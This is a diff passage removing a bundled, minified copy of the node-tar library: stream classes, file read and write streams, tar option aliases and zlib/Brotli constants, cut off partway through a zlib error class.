-var zr, Ur, Ds, Wr, Gr, Zr, Q, J, nt, De, qt, Ne, Ns, Ae, As, z, Mt, g, Qt, Bt, b, N, _, bi, Ie, L, S, _i, Oi, Is, Ti, Z, xi, Ce, Jt, Rt, C, jt, Yr, Kr, Vr, $r, Fe, Li, Xr, qr, A, Jr, ht, H, te, m, Ni, tt, Ai, ki, vi, ie, ke, Ut, Ht, Ii, Pt, at, U, ot, Y, zt, Ci, j, ee, Fi, ve, gt, Me, bt, _t, Be, et, Wt, jr, Fs, ks, vs, Ms, Bs, tn, se, K, sn, M, rn, zs, nn, Bi, Tt, Gt, Pi, re, Pe, ze, Ue, He, We, Ge, Ze, Ye, Ke, Us, hn, an, Hs, ln, cn, Ws, Gs, Hi, ne, dn, Ui, oe, Ve, un, F, mn, xt, Wi, pn, lt, En, wn, Sn, ct, yn, Rn, gn, Gi, bn, Lt, ft, On, Tn, xn, Ln, f, $e, Dt, Nn, Xi, qi, An, B, Nt, it, Zi, Zs, V, he, dt, Ys, p, st, ut, Yi, At, w, Xe, qe, Ki, Ks, Vs, ae, Vi, Qe, Yt, $, Je, It, je, ti, $s, In, le, $i, Xs, Cn, rt, mt, vn, Qi, Mn, Bn, Ct, Ji, zn, qs, ce, ei, ji, Un, Hn, ts, Qs, rr, Wn, tr, er, ir, is, sr, fe, ii, ss, si, rs, ns, os3, hs, pt, ri, as, es, q, de, ni, oi, Gn, hi, ue, pi, nr, li, me, W, pe, Et, Ft, Ee, ai, G, ls, ci, or, ds, us, fi, di, hr, cs, ui, lr, fs, wt, kt, Vn, $n, fr, dr, Xn, qn, Qn, Jn, Er, wr, ur, Sr, yr, Rr, jn, to, eo, mr, ms, ps, Ei, io, Es, so, ws, Se, St, no, gr, Ss, br, oo, _r, ys, Or, Vt, Tr, ho, ao, lo, yi, Lr, Dr, _s, Nr, Os, P, Ts, xs, gi, Ar, Ir, Re, Cr, Fr, Rs, yt, O, Ri, kr, $t, gs, bs, Ls, ge, be, _e, Oe, fo, Te, uo, mo, po, vr, Xt, ye, xe, Eo, wo, So, yo, Ro, go, bo, _o, vt, Oo, To;
-var init_index_min = __esm({
-  "node_modules/tar/dist/esm/index.min.js"() {
-    zr = Object.defineProperty;
-    Ur = (s3, t) => {
-      for (var e in t) zr(s3, e, { get: t[e], enumerable: true });
-    };
-    Ds = typeof process == "object" && process ? process : { stdout: null, stderr: null };
-    Wr = (s3) => !!s3 && typeof s3 == "object" && (s3 instanceof A || s3 instanceof Cs || Gr(s3) || Zr(s3));
-    Gr = (s3) => !!s3 && typeof s3 == "object" && s3 instanceof Di && typeof s3.pipe == "function" && s3.pipe !== Cs.Writable.prototype.pipe;
-    Zr = (s3) => !!s3 && typeof s3 == "object" && s3 instanceof Di && typeof s3.write == "function" && typeof s3.end == "function";
-    Q = Symbol("EOF");
-    J = Symbol("maybeEmitEnd");
-    nt = Symbol("emittedEnd");
-    De = Symbol("emittingEnd");
-    qt = Symbol("emittedError");
-    Ne = Symbol("closed");
-    Ns = Symbol("read");
-    Ae = Symbol("flush");
-    As = Symbol("flushChunk");
-    z = Symbol("encoding");
-    Mt = Symbol("decoder");
-    g = Symbol("flowing");
-    Qt = Symbol("paused");
-    Bt = Symbol("resume");
-    b = Symbol("buffer");
-    N = Symbol("pipes");
-    _ = Symbol("bufferLength");
-    bi = Symbol("bufferPush");
-    Ie = Symbol("bufferShift");
-    L = Symbol("objectMode");
-    S = Symbol("destroyed");
-    _i = Symbol("error");
-    Oi = Symbol("emitData");
-    Is = Symbol("emitEnd");
-    Ti = Symbol("emitEnd2");
-    Z = Symbol("async");
-    xi = Symbol("abort");
-    Ce = Symbol("aborted");
-    Jt = Symbol("signal");
-    Rt = Symbol("dataListeners");
-    C = Symbol("discarded");
-    jt = (s3) => Promise.resolve().then(s3);
-    Yr = (s3) => s3();
-    Kr = (s3) => s3 === "end" || s3 === "finish" || s3 === "prefinish";
-    Vr = (s3) => s3 instanceof ArrayBuffer || !!s3 && typeof s3 == "object" && s3.constructor && s3.constructor.name === "ArrayBuffer" && s3.byteLength >= 0;
-    $r = (s3) => !Buffer.isBuffer(s3) && ArrayBuffer.isView(s3);
-    Fe = class {
-      src;
-      dest;
-      opts;
-      ondrain;
-      constructor(t, e, i) {
-        this.src = t, this.dest = e, this.opts = i, this.ondrain = () => t[Bt](), this.dest.on("drain", this.ondrain);
-      }
-      unpipe() {
-        this.dest.removeListener("drain", this.ondrain);
-      }
-      proxyErrors(t) {
-      }
-      end() {
-        this.unpipe(), this.opts.end && this.dest.end();
-      }
-    };
-    Li = class extends Fe {
-      unpipe() {
-        this.src.removeListener("error", this.proxyErrors), super.unpipe();
-      }
-      constructor(t, e, i) {
-        super(t, e, i), this.proxyErrors = (r) => this.dest.emit("error", r), t.on("error", this.proxyErrors);
-      }
-    };
-    Xr = (s3) => !!s3.objectMode;
-    qr = (s3) => !s3.objectMode && !!s3.encoding && s3.encoding !== "buffer";
-    A = class extends Di {
-      [g] = false;
-      [Qt] = false;
-      [N] = [];
-      [b] = [];
-      [L];
-      [z];
-      [Z];
-      [Mt];
-      [Q] = false;
-      [nt] = false;
-      [De] = false;
-      [Ne] = false;
-      [qt] = null;
-      [_] = 0;
-      [S] = false;
-      [Jt];
-      [Ce] = false;
-      [Rt] = 0;
-      [C] = false;
-      writable = true;
-      readable = true;
-      constructor(...t) {
-        let e = t[0] || {};
-        if (super(), e.objectMode && typeof e.encoding == "string") throw new TypeError("Encoding and objectMode may not be used together");
-        Xr(e) ? (this[L] = true, this[z] = null) : qr(e) ? (this[z] = e.encoding, this[L] = false) : (this[L] = false, this[z] = null), this[Z] = !!e.async, this[Mt] = this[z] ? new Hr(this[z]) : null, e && e.debugExposeBuffer === true && Object.defineProperty(this, "buffer", { get: () => this[b] }), e && e.debugExposePipes === true && Object.defineProperty(this, "pipes", { get: () => this[N] });
-        let { signal: i } = e;
-        i && (this[Jt] = i, i.aborted ? this[xi]() : i.addEventListener("abort", () => this[xi]()));
-      }
-      get bufferLength() {
-        return this[_];
-      }
-      get encoding() {
-        return this[z];
-      }
-      set encoding(t) {
-        throw new Error("Encoding must be set at instantiation time");
-      }
-      setEncoding(t) {
-        throw new Error("Encoding must be set at instantiation time");
-      }
-      get objectMode() {
-        return this[L];
-      }
-      set objectMode(t) {
-        throw new Error("objectMode must be set at instantiation time");
-      }
-      get async() {
-        return this[Z];
-      }
-      set async(t) {
-        this[Z] = this[Z] || !!t;
-      }
-      [xi]() {
-        this[Ce] = true, this.emit("abort", this[Jt]?.reason), this.destroy(this[Jt]?.reason);
-      }
-      get aborted() {
-        return this[Ce];
-      }
-      set aborted(t) {
-      }
-      write(t, e, i) {
-        if (this[Ce]) return false;
-        if (this[Q]) throw new Error("write after end");
-        if (this[S]) return this.emit("error", Object.assign(new Error("Cannot call write after a stream was destroyed"), { code: "ERR_STREAM_DESTROYED" })), true;
-        typeof e == "function" && (i = e, e = "utf8"), e || (e = "utf8");
-        let r = this[Z] ? jt : Yr;
-        if (!this[L] && !Buffer.isBuffer(t)) {
-          if ($r(t)) t = Buffer.from(t.buffer, t.byteOffset, t.byteLength);
-          else if (Vr(t)) t = Buffer.from(t);
-          else if (typeof t != "string") throw new Error("Non-contiguous data written to non-objectMode stream");
-        }
-        return this[L] ? (this[g] && this[_] !== 0 && this[Ae](true), this[g] ? this.emit("data", t) : this[bi](t), this[_] !== 0 && this.emit("readable"), i && r(i), this[g]) : t.length ? (typeof t == "string" && !(e === this[z] && !this[Mt]?.lastNeed) && (t = Buffer.from(t, e)), Buffer.isBuffer(t) && this[z] && (t = this[Mt].write(t)), this[g] && this[_] !== 0 && this[Ae](true), this[g] ? this.emit("data", t) : this[bi](t), this[_] !== 0 && this.emit("readable"), i && r(i), this[g]) : (this[_] !== 0 && this.emit("readable"), i && r(i), this[g]);
-      }
-      read(t) {
-        if (this[S]) return null;
-        if (this[C] = false, this[_] === 0 || t === 0 || t && t > this[_]) return this[J](), null;
-        this[L] && (t = null), this[b].length > 1 && !this[L] && (this[b] = [this[z] ? this[b].join("") : Buffer.concat(this[b], this[_])]);
-        let e = this[Ns](t || null, this[b][0]);
-        return this[J](), e;
-      }
-      [Ns](t, e) {
-        if (this[L]) this[Ie]();
-        else {
-          let i = e;
-          t === i.length || t === null ? this[Ie]() : typeof i == "string" ? (this[b][0] = i.slice(t), e = i.slice(0, t), this[_] -= t) : (this[b][0] = i.subarray(t), e = i.subarray(0, t), this[_] -= t);
-        }
-        return this.emit("data", e), !this[b].length && !this[Q] && this.emit("drain"), e;
-      }
-      end(t, e, i) {
-        return typeof t == "function" && (i = t, t = void 0), typeof e == "function" && (i = e, e = "utf8"), t !== void 0 && this.write(t, e), i && this.once("end", i), this[Q] = true, this.writable = false, (this[g] || !this[Qt]) && this[J](), this;
-      }
-      [Bt]() {
-        this[S] || (!this[Rt] && !this[N].length && (this[C] = true), this[Qt] = false, this[g] = true, this.emit("resume"), this[b].length ? this[Ae]() : this[Q] ? this[J]() : this.emit("drain"));
-      }
-      resume() {
-        return this[Bt]();
-      }
-      pause() {
-        this[g] = false, this[Qt] = true, this[C] = false;
-      }
-      get destroyed() {
-        return this[S];
-      }
-      get flowing() {
-        return this[g];
-      }
-      get paused() {
-        return this[Qt];
-      }
-      [bi](t) {
-        this[L] ? this[_] += 1 : this[_] += t.length, this[b].push(t);
-      }
-      [Ie]() {
-        return this[L] ? this[_] -= 1 : this[_] -= this[b][0].length, this[b].shift();
-      }
-      [Ae](t = false) {
-        do
-          ;
-        while (this[As](this[Ie]()) && this[b].length);
-        !t && !this[b].length && !this[Q] && this.emit("drain");
-      }
-      [As](t) {
-        return this.emit("data", t), this[g];
-      }
-      pipe(t, e) {
-        if (this[S]) return t;
-        this[C] = false;
-        let i = this[nt];
-        return e = e || {}, t === Ds.stdout || t === Ds.stderr ? e.end = false : e.end = e.end !== false, e.proxyErrors = !!e.proxyErrors, i ? e.end && t.end() : (this[N].push(e.proxyErrors ? new Li(this, t, e) : new Fe(this, t, e)), this[Z] ? jt(() => this[Bt]()) : this[Bt]()), t;
-      }
-      unpipe(t) {
-        let e = this[N].find((i) => i.dest === t);
-        e && (this[N].length === 1 ? (this[g] && this[Rt] === 0 && (this[g] = false), this[N] = []) : this[N].splice(this[N].indexOf(e), 1), e.unpipe());
-      }
-      addListener(t, e) {
-        return this.on(t, e);
-      }
-      on(t, e) {
-        let i = super.on(t, e);
-        if (t === "data") this[C] = false, this[Rt]++, !this[N].length && !this[g] && this[Bt]();
-        else if (t === "readable" && this[_] !== 0) super.emit("readable");
-        else if (Kr(t) && this[nt]) super.emit(t), this.removeAllListeners(t);
-        else if (t === "error" && this[qt]) {
-          let r = e;
-          this[Z] ? jt(() => r.call(this, this[qt])) : r.call(this, this[qt]);
-        }
-        return i;
-      }
-      removeListener(t, e) {
-        return this.off(t, e);
-      }
-      off(t, e) {
-        let i = super.off(t, e);
-        return t === "data" && (this[Rt] = this.listeners("data").length, this[Rt] === 0 && !this[C] && !this[N].length && (this[g] = false)), i;
-      }
-      removeAllListeners(t) {
-        let e = super.removeAllListeners(t);
-        return (t === "data" || t === void 0) && (this[Rt] = 0, !this[C] && !this[N].length && (this[g] = false)), e;
-      }
-      get emittedEnd() {
-        return this[nt];
-      }
-      [J]() {
-        !this[De] && !this[nt] && !this[S] && this[b].length === 0 && this[Q] && (this[De] = true, this.emit("end"), this.emit("prefinish"), this.emit("finish"), this[Ne] && this.emit("close"), this[De] = false);
-      }
-      emit(t, ...e) {
-        let i = e[0];
-        if (t !== "error" && t !== "close" && t !== S && this[S]) return false;
-        if (t === "data") return !this[L] && !i ? false : this[Z] ? (jt(() => this[Oi](i)), true) : this[Oi](i);
-        if (t === "end") return this[Is]();
-        if (t === "close") {
-          if (this[Ne] = true, !this[nt] && !this[S]) return false;
-          let n = super.emit("close");
-          return this.removeAllListeners("close"), n;
-        } else if (t === "error") {
-          this[qt] = i, super.emit(_i, i);
-          let n = !this[Jt] || this.listeners("error").length ? super.emit("error", i) : false;
-          return this[J](), n;
-        } else if (t === "resume") {
-          let n = super.emit("resume");
-          return this[J](), n;
-        } else if (t === "finish" || t === "prefinish") {
-          let n = super.emit(t);
-          return this.removeAllListeners(t), n;
-        }
-        let r = super.emit(t, ...e);
-        return this[J](), r;
-      }
-      [Oi](t) {
-        for (let i of this[N]) i.dest.write(t) === false && this.pause();
-        let e = this[C] ? false : super.emit("data", t);
-        return this[J](), e;
-      }
-      [Is]() {
-        return this[nt] ? false : (this[nt] = true, this.readable = false, this[Z] ? (jt(() => this[Ti]()), true) : this[Ti]());
-      }
-      [Ti]() {
-        if (this[Mt]) {
-          let e = this[Mt].end();
-          if (e) {
-            for (let i of this[N]) i.dest.write(e);
-            this[C] || super.emit("data", e);
-          }
-        }
-        for (let e of this[N]) e.end();
-        let t = super.emit("end");
-        return this.removeAllListeners("end"), t;
-      }
-      async collect() {
-        let t = Object.assign([], { dataLength: 0 });
-        this[L] || (t.dataLength = 0);
-        let e = this.promise();
-        return this.on("data", (i) => {
-          t.push(i), this[L] || (t.dataLength += i.length);
-        }), await e, t;
-      }
-      async concat() {
-        if (this[L]) throw new Error("cannot concat in objectMode");
-        let t = await this.collect();
-        return this[z] ? t.join("") : Buffer.concat(t, t.dataLength);
-      }
-      async promise() {
-        return new Promise((t, e) => {
-          this.on(S, () => e(new Error("stream destroyed"))), this.on("error", (i) => e(i)), this.on("end", () => t());
-        });
-      }
-      [Symbol.asyncIterator]() {
-        this[C] = false;
-        let t = false, e = async () => (this.pause(), t = true, { value: void 0, done: true });
-        return { next: () => {
-          if (t) return e();
-          let r = this.read();
-          if (r !== null) return Promise.resolve({ done: false, value: r });
-          if (this[Q]) return e();
-          let n, o, h = (d) => {
-            this.off("data", a), this.off("end", l), this.off(S, c), e(), o(d);
-          }, a = (d) => {
-            this.off("error", h), this.off("end", l), this.off(S, c), this.pause(), n({ value: d, done: !!this[Q] });
-          }, l = () => {
-            this.off("error", h), this.off("data", a), this.off(S, c), e(), n({ done: true, value: void 0 });
-          }, c = () => h(new Error("stream destroyed"));
-          return new Promise((d, y) => {
-            o = y, n = d, this.once(S, c), this.once("error", h), this.once("end", l), this.once("data", a);
-          });
-        }, throw: e, return: e, [Symbol.asyncIterator]() {
-          return this;
-        }, [Symbol.asyncDispose]: async () => {
-        } };
-      }
-      [Symbol.iterator]() {
-        this[C] = false;
-        let t = false, e = () => (this.pause(), this.off(_i, e), this.off(S, e), this.off("end", e), t = true, { done: true, value: void 0 }), i = () => {
-          if (t) return e();
-          let r = this.read();
-          return r === null ? e() : { done: false, value: r };
-        };
-        return this.once("end", e), this.once(_i, e), this.once(S, e), { next: i, throw: e, return: e, [Symbol.iterator]() {
-          return this;
-        }, [Symbol.dispose]: () => {
-        } };
-      }
-      destroy(t) {
-        if (this[S]) return t ? this.emit("error", t) : this.emit(S), this;
-        this[S] = true, this[C] = true, this[b].length = 0, this[_] = 0;
-        let e = this;
-        return typeof e.close == "function" && !this[Ne] && e.close(), t ? this.emit("error", t) : this.emit(S), this;
-      }
-      static get isStream() {
-        return Wr;
-      }
-    };
-    Jr = I.writev;
-    ht = Symbol("_autoClose");
-    H = Symbol("_close");
-    te = Symbol("_ended");
-    m = Symbol("_fd");
-    Ni = Symbol("_finished");
-    tt = Symbol("_flags");
-    Ai = Symbol("_flush");
-    ki = Symbol("_handleChunk");
-    vi = Symbol("_makeBuf");
-    ie = Symbol("_mode");
-    ke = Symbol("_needDrain");
-    Ut = Symbol("_onerror");
-    Ht = Symbol("_onopen");
-    Ii = Symbol("_onread");
-    Pt = Symbol("_onwrite");
-    at = Symbol("_open");
-    U = Symbol("_path");
-    ot = Symbol("_pos");
-    Y = Symbol("_queue");
-    zt = Symbol("_read");
-    Ci = Symbol("_readSize");
-    j = Symbol("_reading");
-    ee = Symbol("_remain");
-    Fi = Symbol("_size");
-    ve = Symbol("_write");
-    gt = Symbol("_writing");
-    Me = Symbol("_defaultFlag");
-    bt = Symbol("_errored");
-    _t = class extends A {
-      [bt] = false;
-      [m];
-      [U];
-      [Ci];
-      [j] = false;
-      [Fi];
-      [ee];
-      [ht];
-      constructor(t, e) {
-        if (e = e || {}, super(e), this.readable = true, this.writable = false, typeof t != "string") throw new TypeError("path must be a string");
-        this[bt] = false, this[m] = typeof e.fd == "number" ? e.fd : void 0, this[U] = t, this[Ci] = e.readSize || 16 * 1024 * 1024, this[j] = false, this[Fi] = typeof e.size == "number" ? e.size : 1 / 0, this[ee] = this[Fi], this[ht] = typeof e.autoClose == "boolean" ? e.autoClose : true, typeof this[m] == "number" ? this[zt]() : this[at]();
-      }
-      get fd() {
-        return this[m];
-      }
-      get path() {
-        return this[U];
-      }
-      write() {
-        throw new TypeError("this is a readable stream");
-      }
-      end() {
-        throw new TypeError("this is a readable stream");
-      }
-      [at]() {
-        I.open(this[U], "r", (t, e) => this[Ht](t, e));
-      }
-      [Ht](t, e) {
-        t ? this[Ut](t) : (this[m] = e, this.emit("open", e), this[zt]());
-      }
-      [vi]() {
-        return Buffer.allocUnsafe(Math.min(this[Ci], this[ee]));
-      }
-      [zt]() {
-        if (!this[j]) {
-          this[j] = true;
-          let t = this[vi]();
-          if (t.length === 0) return process.nextTick(() => this[Ii](null, 0, t));
-          I.read(this[m], t, 0, t.length, null, (e, i, r) => this[Ii](e, i, r));
-        }
-      }
-      [Ii](t, e, i) {
-        this[j] = false, t ? this[Ut](t) : this[ki](e, i) && this[zt]();
-      }
-      [H]() {
-        if (this[ht] && typeof this[m] == "number") {
-          let t = this[m];
-          this[m] = void 0, I.close(t, (e) => e ? this.emit("error", e) : this.emit("close"));
-        }
-      }
-      [Ut](t) {
-        this[j] = true, this[H](), this.emit("error", t);
-      }
-      [ki](t, e) {
-        let i = false;
-        return this[ee] -= t, t > 0 && (i = super.write(t < e.length ? e.subarray(0, t) : e)), (t === 0 || this[ee] <= 0) && (i = false, this[H](), super.end()), i;
-      }
-      emit(t, ...e) {
-        switch (t) {
-          case "prefinish":
-          case "finish":
-            return false;
-          case "drain":
-            return typeof this[m] == "number" && this[zt](), false;
-          case "error":
-            return this[bt] ? false : (this[bt] = true, super.emit(t, ...e));
-          default:
-            return super.emit(t, ...e);
-        }
-      }
-    };
-    Be = class extends _t {
-      [at]() {
-        let t = true;
-        try {
-          this[Ht](null, I.openSync(this[U], "r")), t = false;
-        } finally {
-          t && this[H]();
-        }
-      }
-      [zt]() {
-        let t = true;
-        try {
-          if (!this[j]) {
-            this[j] = true;
-            do {
-              let e = this[vi](), i = e.length === 0 ? 0 : I.readSync(this[m], e, 0, e.length, null);
-              if (!this[ki](i, e)) break;
-            } while (true);
-            this[j] = false;
-          }
-          t = false;
-        } finally {
-          t && this[H]();
-        }
-      }
-      [H]() {
-        if (this[ht] && typeof this[m] == "number") {
-          let t = this[m];
-          this[m] = void 0, I.closeSync(t), this.emit("close");
-        }
-      }
-    };
-    et = class extends Qr {
-      readable = false;
-      writable = true;
-      [bt] = false;
-      [gt] = false;
-      [te] = false;
-      [Y] = [];
-      [ke] = false;
-      [U];
-      [ie];
-      [ht];
-      [m];
-      [Me];
-      [tt];
-      [Ni] = false;
-      [ot];
-      constructor(t, e) {
-        e = e || {}, super(e), this[U] = t, this[m] = typeof e.fd == "number" ? e.fd : void 0, this[ie] = e.mode === void 0 ? 438 : e.mode, this[ot] = typeof e.start == "number" ? e.start : void 0, this[ht] = typeof e.autoClose == "boolean" ? e.autoClose : true;
-        let i = this[ot] !== void 0 ? "r+" : "w";
-        this[Me] = e.flags === void 0, this[tt] = e.flags === void 0 ? i : e.flags, this[m] === void 0 && this[at]();
-      }
-      emit(t, ...e) {
-        if (t === "error") {
-          if (this[bt]) return false;
-          this[bt] = true;
-        }
-        return super.emit(t, ...e);
-      }
-      get fd() {
-        return this[m];
-      }
-      get path() {
-        return this[U];
-      }
-      [Ut](t) {
-        this[H](), this[gt] = true, this.emit("error", t);
-      }
-      [at]() {
-        I.open(this[U], this[tt], this[ie], (t, e) => this[Ht](t, e));
-      }
-      [Ht](t, e) {
-        this[Me] && this[tt] === "r+" && t && t.code === "ENOENT" ? (this[tt] = "w", this[at]()) : t ? this[Ut](t) : (this[m] = e, this.emit("open", e), this[gt] || this[Ai]());
-      }
-      end(t, e) {
-        return t && this.write(t, e), this[te] = true, !this[gt] && !this[Y].length && typeof this[m] == "number" && this[Pt](null, 0), this;
-      }
-      write(t, e) {
-        return typeof t == "string" && (t = Buffer.from(t, e)), this[te] ? (this.emit("error", new Error("write() after end()")), false) : this[m] === void 0 || this[gt] || this[Y].length ? (this[Y].push(t), this[ke] = true, false) : (this[gt] = true, this[ve](t), true);
-      }
-      [ve](t) {
-        I.write(this[m], t, 0, t.length, this[ot], (e, i) => this[Pt](e, i));
-      }
-      [Pt](t, e) {
-        t ? this[Ut](t) : (this[ot] !== void 0 && typeof e == "number" && (this[ot] += e), this[Y].length ? this[Ai]() : (this[gt] = false, this[te] && !this[Ni] ? (this[Ni] = true, this[H](), this.emit("finish")) : this[ke] && (this[ke] = false, this.emit("drain"))));
-      }
-      [Ai]() {
-        if (this[Y].length === 0) this[te] && this[Pt](null, 0);
-        else if (this[Y].length === 1) this[ve](this[Y].pop());
-        else {
-          let t = this[Y];
-          this[Y] = [], Jr(this[m], t, this[ot], (e, i) => this[Pt](e, i));
-        }
-      }
-      [H]() {
-        if (this[ht] && typeof this[m] == "number") {
-          let t = this[m];
-          this[m] = void 0, I.close(t, (e) => e ? this.emit("error", e) : this.emit("close"));
-        }
-      }
-    };
-    Wt = class extends et {
-      [at]() {
-        let t;
-        if (this[Me] && this[tt] === "r+") try {
-          t = I.openSync(this[U], this[tt], this[ie]);
-        } catch (e) {
-          if (e?.code === "ENOENT") return this[tt] = "w", this[at]();
-          throw e;
-        }
-        else t = I.openSync(this[U], this[tt], this[ie]);
-        this[Ht](null, t);
-      }
-      [H]() {
-        if (this[ht] && typeof this[m] == "number") {
-          let t = this[m];
-          this[m] = void 0, I.closeSync(t), this.emit("close");
-        }
-      }
-      [ve](t) {
-        let e = true;
-        try {
-          this[Pt](null, I.writeSync(this[m], t, 0, t.length, this[ot])), e = false;
-        } finally {
-          if (e) try {
-            this[H]();
-          } catch {
-          }
-        }
-      }
-    };
-    jr = /* @__PURE__ */ new Map([["C", "cwd"], ["f", "file"], ["z", "gzip"], ["P", "preservePaths"], ["U", "unlink"], ["strip-components", "strip"], ["stripComponents", "strip"], ["keep-newer", "newer"], ["keepNewer", "newer"], ["keep-newer-files", "newer"], ["keepNewerFiles", "newer"], ["k", "keep"], ["keep-existing", "keep"], ["keepExisting", "keep"], ["m", "noMtime"], ["no-mtime", "noMtime"], ["p", "preserveOwner"], ["L", "follow"], ["h", "follow"], ["onentry", "onReadEntry"]]);
-    Fs = (s3) => !!s3.sync && !!s3.file;
-    ks = (s3) => !s3.sync && !!s3.file;
-    vs = (s3) => !!s3.sync && !s3.file;
-    Ms = (s3) => !s3.sync && !s3.file;
-    Bs = (s3) => !!s3.file;
-    tn = (s3) => {
-      let t = jr.get(s3);
-      return t || s3;
-    };
-    se = (s3 = {}) => {
-      if (!s3) return {};
-      let t = {};
-      for (let [e, i] of Object.entries(s3)) {
-        let r = tn(e);
-        t[r] = i;
-      }
-      return t.chmod === void 0 && t.noChmod === false && (t.chmod = true), delete t.noChmod, t;
-    };
-    K = (s3, t, e, i, r) => Object.assign((n = [], o, h) => {
-      Array.isArray(n) && (o = n, n = {}), typeof o == "function" && (h = o, o = void 0), o = o ? Array.from(o) : [];
-      let a = se(n);
-      if (r?.(a, o), Fs(a)) {
-        if (typeof h == "function") throw new TypeError("callback not supported for sync tar functions");
-        return s3(a, o);
-      } else if (ks(a)) {
-        let l = t(a, o);
-        return h ? l.then(() => h(), h) : l;
-      } else if (vs(a)) {
-        if (typeof h == "function") throw new TypeError("callback not supported for sync tar functions");
-        return e(a, o);
-      } else if (Ms(a)) {
-        if (typeof h == "function") throw new TypeError("callback only supported with file option");
-        return i(a, o);
-      }
-      throw new Error("impossible options??");
-    }, { syncFile: s3, asyncFile: t, syncNoFile: e, asyncNoFile: i, validate: r });
-    sn = en.constants || { ZLIB_VERNUM: 4736 };
-    M = Object.freeze(Object.assign(/* @__PURE__ */ Object.create(null), { Z_NO_FLUSH: 0, Z_PARTIAL_FLUSH: 1, Z_SYNC_FLUSH: 2, Z_FULL_FLUSH: 3, Z_FINISH: 4, Z_BLOCK: 5, Z_OK: 0, Z_STREAM_END: 1, Z_NEED_DICT: 2, Z_ERRNO: -1, Z_STREAM_ERROR: -2, Z_DATA_ERROR: -3, Z_MEM_ERROR: -4, Z_BUF_ERROR: -5, Z_VERSION_ERROR: -6, Z_NO_COMPRESSION: 0, Z_BEST_SPEED: 1, Z_BEST_COMPRESSION: 9, Z_DEFAULT_COMPRESSION: -1, Z_FILTERED: 1, Z_HUFFMAN_ONLY: 2, Z_RLE: 3, Z_FIXED: 4, Z_DEFAULT_STRATEGY: 0, DEFLATE: 1, INFLATE: 2, GZIP: 3, GUNZIP: 4, DEFLATERAW: 5, INFLATERAW: 6, UNZIP: 7, BROTLI_DECODE: 8, BROTLI_ENCODE: 9, Z_MIN_WINDOWBITS: 8, Z_MAX_WINDOWBITS: 15, Z_DEFAULT_WINDOWBITS: 15, Z_MIN_CHUNK: 64, Z_MAX_CHUNK: 1 / 0, Z_DEFAULT_CHUNK: 16384, Z_MIN_MEMLEVEL: 1, Z_MAX_MEMLEVEL: 9, Z_DEFAULT_MEMLEVEL: 8, Z_MIN_LEVEL: -1, Z_MAX_LEVEL: 9, Z_DEFAULT_LEVEL: -1, BROTLI_OPERATION_PROCESS: 0, BROTLI_OPERATION_FLUSH: 1, BROTLI_OPERATION_FINISH: 2, BROTLI_OPERATION_EMIT_METADATA: 3, BROTLI_MODE_GENERIC: 0, BROTLI_MODE_TEXT: 1, BROTLI_MODE_FONT: 2, BROTLI_DEFAULT_MODE: 0, BROTLI_MIN_QUALITY: 0, BROTLI_MAX_QUALITY: 11, BROTLI_DEFAULT_QUALITY: 11, BROTLI_MIN_WINDOW_BITS: 10, BROTLI_MAX_WINDOW_BITS: 24, BROTLI_LARGE_MAX_WINDOW_BITS: 30, BROTLI_DEFAULT_WINDOW: 22, BROTLI_MIN_INPUT_BLOCK_BITS: 16, BROTLI_MAX_INPUT_BLOCK_BITS: 24, BROTLI_PARAM_MODE: 0, BROTLI_PARAM_QUALITY: 1, BROTLI_PARAM_LGWIN: 2, BROTLI_PARAM_LGBLOCK: 3, BROTLI_PARAM_DISABLE_LITERAL_CONTEXT_MODELING: 4, BROTLI_PARAM_SIZE_HINT: 5, BROTLI_PARAM_LARGE_WINDOW: 6, BROTLI_PARAM_NPOSTFIX: 7, BROTLI_PARAM_NDIRECT: 8, BROTLI_DECODER_RESULT_ERROR: 0, BROTLI_DECODER_RESULT_SUCCESS: 1, BROTLI_DECODER_RESULT_NEEDS_MORE_INPUT: 2, BROTLI_DECODER_RESULT_NEEDS_MORE_OUTPUT: 3, BROTLI_DECODER_PARAM_DISABLE_RING_BUFFER_REALLOCATION: 0, BROTLI_DECODER_PARAM_LARGE_WINDOW: 1, BROTLI_DECODER_NO_ERROR: 0, BROTLI_DECODER_SUCCESS: 1, BROTLI_DECODER_NEEDS_MORE_INPUT: 2, BROTLI_DECODER_NEEDS_MORE_OUTPUT: 3, BROTLI_DECODER_ERROR_FORMAT_EXUBERANT_NIBBLE: -1, BROTLI_DECODER_ERROR_FORMAT_RESERVED: -2, BROTLI_DECODER_ERROR_FORMAT_EXUBERANT_META_NIBBLE: -3, BROTLI_DECODER_ERROR_FORMAT_SIMPLE_HUFFMAN_ALPHABET: -4, BROTLI_DECODER_ERROR_FORMAT_SIMPLE_HUFFMAN_SAME: -5, BROTLI_DECODER_ERROR_FORMAT_CL_SPACE: -6, BROTLI_DECODER_ERROR_FORMAT_HUFFMAN_SPACE: -7, BROTLI_DECODER_ERROR_FORMAT_CONTEXT_MAP_REPEAT: -8, BROTLI_DECODER_ERROR_FORMAT_BLOCK_LENGTH_1: -9, BROTLI_DECODER_ERROR_FORMAT_BLOCK_LENGTH_2: -10, BROTLI_DECODER_ERROR_FORMAT_TRANSFORM: -11, BROTLI_DECODER_ERROR_FORMAT_DICTIONARY: -12, BROTLI_DECODER_ERROR_FORMAT_WINDOW_BITS: -13, BROTLI_DECODER_ERROR_FORMAT_PADDING_1: -14, BROTLI_DECODER_ERROR_FORMAT_PADDING_2: -15, BROTLI_DECODER_ERROR_FORMAT_DISTANCE: -16, BROTLI_DECODER_ERROR_DICTIONARY_NOT_SET: -19, BROTLI_DECODER_ERROR_INVALID_ARGUMENTS: -20, BROTLI_DECODER_ERROR_ALLOC_CONTEXT_MODES: -21, BROTLI_DECODER_ERROR_ALLOC_TREE_GROUPS: -22, BROTLI_DECODER_ERROR_ALLOC_CONTEXT_MAP: -25, BROTLI_DECODER_ERROR_ALLOC_RING_BUFFER_1: -26, BROTLI_DECODER_ERROR_ALLOC_RING_BUFFER_2: -27, BROTLI_DECODER_ERROR_ALLOC_BLOCK_TYPE_TREES: -30, BROTLI_DECODER_ERROR_UNREACHABLE: -31 }, sn));
-    rn = Ot.concat;
-    zs = Object.getOwnPropertyDescriptor(Ot, "concat");
-    nn = (s3) => s3;
-    Bi = zs?.writable === true || zs?.set !== void 0 ? (s3) => {
-      Ot.concat = s3 ? nn : rn;
-    } : (s3) => {
-    };
-    Tt = Symbol("_superWrite");
-    Gt = class extends Error {
-      code;
-      errno;
-      constructor(t, e) {
-        super("zlib: " + t.message, { cause: t }), this.code = t.code, this.errno = t.errno, this.code || (this.code = "ZLIB_ERROR"), this.message = "zlib: " + t.message, Error.captureStackTrace(this, e ?? this.constructor);
-      }
-      get name() {
